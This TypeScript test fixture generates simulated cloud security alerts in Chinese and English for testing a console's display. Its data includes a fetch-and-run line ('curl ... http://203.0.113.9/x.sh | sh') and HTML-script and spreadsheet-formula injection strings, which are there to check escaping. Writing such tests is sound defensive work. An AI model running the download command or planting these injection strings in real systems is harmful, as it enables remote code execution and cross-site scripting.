// Generated events, each made from its number alone, so that a million of them cost no memory.
import type { EventDetail, EventRow, Language } from "../../src/wire/types";
import { LEVELS, RESULT_CODES, STATUSES, TYPES } from "./words";

const NAMES: [string, string][] = [
  ["XorDDoS木马", "XorDDoS trojan"],
  ["发现后门(Webshell)文件", "Webshell file found"],
  ["Linux计划任务执行异常指令", "Suspicious command in a cron job"],
  ["ECS非常用登录地", "Login from an unusual location"],
  ["挖矿程序", "Mining program"],
  ["反弹Shell", "Reverse shell"],
  ["访问恶意域名", "Access to a malicious domain"],
  ["<img src=x onerror=alert(1)>伪装的进程名", "<img src=x onerror=alert(1)> as a process name"],
  ["可疑的PowerShell指令 =cmd|' /C calc'!A0", "Suspicious PowerShell =cmd|' /C calc'!A0"],
  ["K8s匿名用户访问敏感接口", "Anonymous access to a sensitive Kubernetes API"],
  ["容器逃逸：挂载宿主机根目录", "Container escape: host root mounted"],
  ["暴力破解成功", "Brute-force attack succeeded"],
];
const ASSETS = [
  "web-prod-01",
  "web-prod-02",
  "订单数据库-主",
  "k8s-node-huadong-07",
  "bastion",
  "ai-gpu-训练-03",
  "支付网关",
  "nginx-edge-very-long-instance-name-for-truncation-tests-0001",
];
const ANCHOR = Date.UTC(2026, 10, 22, 2, 14, 5);

/** A number that looks random and is always the same for the same two numbers. */
export function mix(row: number, salt: number): number {
  let value = Math.imul(row + 0x9e3779b9, 0x85ebca6b) ^ Math.imul(salt + 1, 0xc2b2ae35);
  value = Math.imul(value ^ (value >>> 15), 0x2c1b3c6d);
  value = Math.imul(value ^ (value >>> 12), 0x297a2d39);
  return (value ^ (value >>> 15)) >>> 0;
}

export const levelOf = (row: number) => LEVELS[[0, 1, 1, 2, 2, 2][mix(row, 1) % 6]!]!;
export const statusOf = (row: number) => STATUSES[[0, 0, 0, 1, 2, 3, 5, 6, 9][mix(row, 2) % 9]!]!;
export const typeOf = (row: number) => TYPES[mix(row, 3) % TYPES.length]!;
export const nameOf = (row: number) => NAMES[mix(row, 4) % NAMES.length]!;
export const assetOf = (row: number) => ASSETS[mix(row, 5) % ASSETS.length]!;
export const timeOf = (row: number) => ANCHOR - row * 41_000 - (mix(row, 6) % 40_000);
/** What the last sync found of a row; "" for nothing. */
export const markOf = (row: number) =>
  row < 12 ? "new" : row % 97 === 5 ? "changed" : row % 211 === 20 ? "gone" : "";
export const idOf = (row: number) => String(9_007_199_254_740_993n + BigInt(1_000_000 - row));
export const cloudText = (time: number) =>
  new Date(time + 8 * 3_600_000).toISOString().slice(0, 19).replace("T", " ");

const privateIp = (row: number) => `172.16.${mix(row, 7) % 256}.${mix(row, 8) % 254}`;
const publicIp = (row: number) => `203.0.113.${mix(row, 9) % 254}`;

function cell(row: number, column: string, language: Language): string {
  const pick = (pair: { zh: string; en: string }) => pair[language];
  const [zh, en] = nameOf(row);
  switch (column) {
    case "id":
      return idOf(row);
    case "level":
      return pick(levelOf(row));
    case "status":
      return pick(statusOf(row));
    case "alarmEventType":
      return pick(typeOf(row));
    case "eventSubType":
    case "name":
      return language === "zh" ? zh : en;
    case "instanceName":
      return assetOf(row);
    case "ip":
      return `${publicIp(row)}, ${privateIp(row)}`;
    case "internetIp":
      return publicIp(row);
    case "intranetIp":
      return privateIp(row);
    case "lastTime":
    case "occurrenceTime":
      return cloudText(timeOf(row));
    case "operateTime":
      return statusOf(row).value === "1" ? "" : cloudText(timeOf(row) + 3_600_000);
    case "operateErrorCode":
      return statusOf(row).value === "1" ? "" : RESULT_CODES[mix(row, 10) % RESULT_CODES.length]!.value;
    case "desc":
    case "eventDetail":
      return language === "zh"
        ? "路径: /etc/crontab; 命令: curl -s http://203.0.113.9/x.sh | sh"
        : "path: /etc/crontab; command: curl -s http://203.0.113.9/x.sh | sh";
    case "groupName":
      return ["生产", "测试", "default"][mix(row, 11) % 3]!;
    case "saleVersion":
      return String(mix(row, 12) % 3);
    default:
      return "";
  }
}

export function rowOf(row: number, columns: string[], language: Language): EventRow {
  return {
    key: { id: idOf(row), account: "1960721413480001" },
    level: levelOf(row).value,
    status: Number(statusOf(row).value),
    reviewed: false,
    cells: columns.map((column) => cell(row, column, language)),
  };
}

export function rowNumber(id: string): number {
  return 1_000_000 - Number(BigInt(id) - 9_007_199_254_740_993n);
}

export function detailOf(row: number, language: Language): Omit<EventDetail, "review"> {
  const text = (zh: string, en: string) => (language === "zh" ? zh : en);
  const at = (column: string) => cell(row, column, language);
  const raw = {
    Id: idOf(row),
    Name: nameOf(row)[0],
    Level: levelOf(row).value,
    EventStatus: Number(statusOf(row).value),
    LastTime: at("lastTime"),
    InternetIp: publicIp(row),
    Details: [{ NameDisplay: "路径", Value: "/etc/crontab", Type: "text" }],
    Desc: "<script>alert('x')</script>",
  };
  return {
    key: { id: idOf(row), account: "1960721413480001" },
    title: at("name"),
    level: levelOf(row).value,
    levelWords: levelOf(row)[language],
    statusWords: statusOf(row)[language],
    description: text(
      "检测到服务器上的计划任务执行了可疑指令，攻击者可能借此保持权限。请检查该计划任务，并确认是否为正常业务。<script>alert('x')</script>",
      "A scheduled task on the server ran a suspicious command; an attacker may use it to stay. Check the task and whether it belongs to normal work. <script>alert('x')</script>",
    ),
    event: [
      { name: "AlarmEventType", label: text("告警类型", "Alert type"), value: at("alarmEventType") },
      { name: "EventSubType", label: text("告警名称", "Alert name"), value: at("eventSubType") },
      { name: "LastTime", label: text("最近发生时间", "Last occurred"), value: at("lastTime") },
      { name: "OccurrenceTime", label: text("首次发生时间", "First occurred"), value: at("occurrenceTime") },
      { name: "OperateTime", label: text("处理时间", "Handled at"), value: at("operateTime") },
      { name: "OperateErrorCode", label: text("处理结果", "Handling result"), value: at("operateErrorCode") },
    ],
    asset: [
      { name: "InstanceName", label: text("资产名称", "Asset name"), value: at("instanceName") },
      { name: "InternetIp", label: text("公网 IP", "Public IP"), value: at("internetIp") },
      { name: "IntranetIp", label: text("私网 IP", "Private IP"), value: at("intranetIp") },
      { name: "Uuid", label: "UUID", value: "18b7336e-d469-473b-af83-8e5420f9a1b2" },
      { name: "GroupName", label: text("资产组", "Asset group"), value: at("groupName") },
    ],
    container:
      row % 3 === 0
        ? [
            { name: "K8sNamespace", label: text("命名空间", "Namespace"), value: "default" },
            {
              name: "ContainerImageName",
              label: text("镜像", "Image"),
              value:
                "registry.example.com/shop/order:v1.4.2@sha256:3f5ad1b9c7e0f2d4a6b8c0e2f4a6b8d0c2e4f6a8b0d2c4e6f8a0b2d4c6e8f0a2",
            },
          ]
        : [],
    details: [
      { name: text("文件路径", "File path"), value: "/etc/crontab" },
      {
        name: text("命令行", "Command line"),
        value: "curl -fsSL http://203.0.113.9/x.sh | sh\n<b>not bold</b>",
      },
      { name: "MD5", value: "d41d8cd98f00b204e9800998ecf8427e" },
    ],
    notes: [{ name: "2026-11-21 18:20:11", value: text("已联系业务方确认", "Owner was asked") }],
    tactics: [{ name: "TA0003", value: text("持久化", "Persistence") }],
    other: [
      { name: "DataSource", label: text("数据来源", "Data source"), value: "aegis_suspicious_event" },
      { name: "CanBeDealOnLine", label: text("可在线处理", "Can be handled online"), value: "true" },
    ],
    history: [
      {
        field: text("状态", "Status"),
        before: text("待处理", "Pending"),
        after: statusOf(row)[language],
        when: "2026-11-22 10:11:04",
        run: 19,
      },
      {
        field: text("备注", "Note"),
        before: "",
        after: text("已联系业务方确认 <i>", "Owner was asked <i>"),
        when: "2026-11-21 18:20:30",
        run: 15,
      },
    ],
    firstSeen: "2026-11-21 18:02:09",
    gone: markOf(row) === "gone" ? "2026-11-22 10:11:05" : null,
    raw: JSON.stringify(raw, null, 2),
    rawOtherLanguage: row % 2 === 0 ? JSON.stringify({ ...raw, Name: nameOf(row)[1] }, null, 2) : null,
  };
}
